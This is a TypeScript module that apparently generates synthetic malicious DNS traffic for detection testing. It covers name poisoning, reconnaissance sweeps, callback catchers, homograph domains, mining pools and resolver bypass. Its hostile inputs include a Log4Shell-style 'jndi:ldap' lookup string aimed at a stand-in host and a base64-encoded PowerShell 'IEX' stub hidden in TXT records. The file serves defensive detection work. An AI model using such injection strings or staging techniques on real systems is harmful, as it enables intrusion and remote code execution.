import { Buffer } from 'node:buffer';
import { oneOf } from '../generated-domain.ts';
import type { PseudoRandom } from '../pseudo-random.ts';
import { siteWords } from '../site-words.ts';
import { addressOf, drawn } from './clean-site.ts';
import type { MaliciousPattern, Question } from './malicious-pattern.ts';

const base64 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
const base32 = 'abcdefghijklmnopqrstuvwxyz234567';
const alphanumeric = '0123456789abcdefghijklmnopqrstuvwxyz';
const word = (random: PseudoRandom): string => oneOf(random, siteWords.plain);

const intrusion = (
  name: string,
  type: string,
  [perMinute, count]: readonly [number, number],
  question: MaliciousPattern['question'],
  more: Partial<MaliciousPattern> = {},
): MaliciousPattern => ({ name, family: 'intrusion', types: [type], perMinute, count, question, ...more });

const onLink = (nameService: 'llmnr' | 'nbns', name: string, address: string): Question => ({
  name,
  nameService,
  answers: [address],
  ttl: 30,
  change: { serverAddress: address, serverPort: nameService === 'llmnr' ? 5_355 : 137 },
});

/** The first-level encoding of a name of NetBIOS. */
const netbios = (name: string): string =>
  [...Buffer.from(`${name.slice(0, 15).toUpperCase().padEnd(15)} `)]
    .map((octet) => String.fromCharCode(97 + (octet >> 4), 97 + (octet & 15)))
    .join('');

/** A ticket of interactsh, given out on the day of the traffic. */
const ticket = (random: PseudoRandom): string =>
  (BigInt(Date.UTC(2026, 2, 10) / 1_000) << 3n).toString(32).padStart(7, '0') +
  drawn(random, '0123456789abcdefghijklmnopqrstuv', 13) +
  drawn(random, alphanumeric, 13);

const script = (random: PseudoRandom): string =>
  Buffer.from(`$c='${drawn(random, base32, 60)}';IEX $c`, 'utf16le').toString('base64');
const header = Buffer.from('4d5a90000300000004000000ffff0000b8000000', 'hex')
  .toString('base64')
  .replace(/=+$/, '');

/** These patterns imitate what intruders do beside carrying data: exploring, staging, answering for others, going round. */
export const intrusionPatterns: readonly MaliciousPattern[] = [
  intrusion(
    'LLMNR answered for whatever is asked',
    'name_poisoning',
    [4, 20],
    (random) => onLink('llmnr', `${word(random)}${random.below(100)}`, '10.0.9.66'),
    { tells: '10.0.9.66' },
  ),
  intrusion(
    'NetBIOS answered for whatever is asked',
    'name_poisoning',
    [4, 20],
    (random) => {
      const name = netbios(`${word(random)}${random.below(100)}`);
      const own = onLink('nbns', name, '10.0.9.67');
      const records = [{ section: 'answer' as const, name, type: 32, ttl: 30, data: '\\# 6 00000a000943' }];
      return { ...own, answers: [], change: { ...own.change, queryType: 32, answerCount: 1, records } };
    },
    { tells: '10.0.9.67' },
  ),
  intrusion(
    'callbacks to a known catcher',
    'callback_service',
    [2, 6],
    (random) => ({
      name: `${drawn(random, alphanumeric, 33)}.oast.site`,
      answers: [addressOf(random)],
    }),
    { keepsNames: true },
  ),
  intrusion('callbacks to a catcher of their own', 'callback_service', [2, 6], (random) => ({
    name: `${ticket(random)}.stray-host.net`,
    answers: [addressOf(random)],
  })),
  intrusion('expressions that a log evaluates', 'callback_service', [2, 6], (random) => ({
    name: `\${jndi:ldap://${word(random)}.probe-host.net`,
    code: 'NXDOMAIN',
    deniedBy: 'net',
  })),
  intrusion('sweep of a network in order', 'reconnaissance', [240, 254], (_, n) => ({
    name: `${n + 1}.44.30.10.in-addr.arpa`,
    type: 'PTR',
    code: 'NXDOMAIN',
    deniedBy: '10.in-addr.arpa',
  })),
  intrusion('whole zones asked for', 'reconnaissance', [6, 6], (_, n) => ({
    name: ['some-company.com', 'corp.some-company.com', '_msdcs.some-company.com'][n % 3]!,
    type: 'AXFR',
    code: 'REFUSED',
  })),
  intrusion(
    'versions of many name servers',
    'reconnaissance',
    [30, 40],
    (_, n) => ({
      name: 'version.bind',
      type: 'TXT',
      code: 'REFUSED',
      change: { queryClass: 3, serverAddress: `10.1.1.${n + 1}` },
    }),
    { keepsNames: true },
  ),
  intrusion('all services of a domain', 'reconnaissance', [60, 60], (_, n) => ({
    name: `_${siteWords.plain[n]}._${n % 2 === 0 ? 'tcp' : 'udp'}.target-company.net`,
    type: 'SRV',
    code: 'NXDOMAIN',
    deniedBy: 'target-company.net',
  })),
  intrusion('names of hosts from a list', 'reconnaissance', [120, 600], (_, n) => ({
    name: `${siteWords.plain[n % siteWords.plain.length]}${n < siteWords.plain.length ? '' : '1'}.target-shop.net`,
    code: 'NXDOMAIN',
    deniedBy: 'target-shop.net',
  })),
  intrusion('a program in a record of text', 'staged_code', [1, 3], (random, n) => ({
    name: `${word(random)}${n}.parts-depot.net`,
    type: 'TXT',
    answers: [`"${header}${drawn(random, base64, 200)}"`],
  })),
  intrusion('a command of PowerShell in a record of text', 'staged_code', [1, 3], (random) => ({
    name: `${word(random)}.next-step.net`,
    type: 'TXT',
    answers: [`"${script(random)}"`],
  })),
  intrusion('a program in numbered records of text', 'staged_code', [1, 12], (random, n) => ({
    name: `part${n}.wide-shelf.net`,
    type: 'TXT',
    answers: [`"${drawn(random, base64, 240)}"`],
  })),
  intrusion(
    'a brand with digits for letters',
    'homograph',
    [1, 2],
    () => ({
      name: 'login.paypa1.net',
      answers: ['45.9.9.9'],
    }),
    { keepsNames: true },
  ),
  intrusion(
    'a label of two scripts',
    'homograph',
    [1, 2],
    () => ({
      name: 'xn--ypal-43d9g.net',
      answers: ['45.9.9.9'],
    }),
    { keepsNames: true },
  ),
  intrusion(
    'a pool of miners',
    'mining_pool',
    [1, 5],
    () => ({
      name: 'xmr-eu1.nanopool.org',
      answers: ['45.9.9.9'],
    }),
    { keepsNames: true },
  ),
  intrusion(
    'a gateway to an onion service',
    'anonymity_network',
    [1, 3],
    (random) => ({
      name: `${drawn(random, base32, 56)}.onion.ly`,
      answers: ['45.9.9.9'],
    }),
    { keepsNames: true },
  ),
  intrusion(
    'an unknown resolver outside',
    'resolver_bypass',
    [30, 60],
    (random) => ({
      name: `www.${word(random)}-${word(random)}.net`,
      answers: [addressOf(random)],
      change: { serverAddress: '45.77.1.9' },
    }),
    { keepsNames: true, needsSite: true },
  ),
  intrusion(
    'look-ups of a resolver that speaks in cipher',
    'resolver_bypass',
    [1, 3],
    () => ({
      name: 'dns.nextdns.io',
      answers: ['45.90.28.0'],
    }),
    { keepsNames: true, asRemark: true },
  ),
  intrusion(
    'errors answered by the provider',
    'nxdomain_hijack',
    [3, 24],
    (random) => ({
      name: `${drawn(random, base32.slice(0, 26), 9)}.${drawn(random, base32.slice(0, 26), 6)}`,
      answers: ['92.4.4.4'],
    }),
    { keepsNames: true },
  ),
];
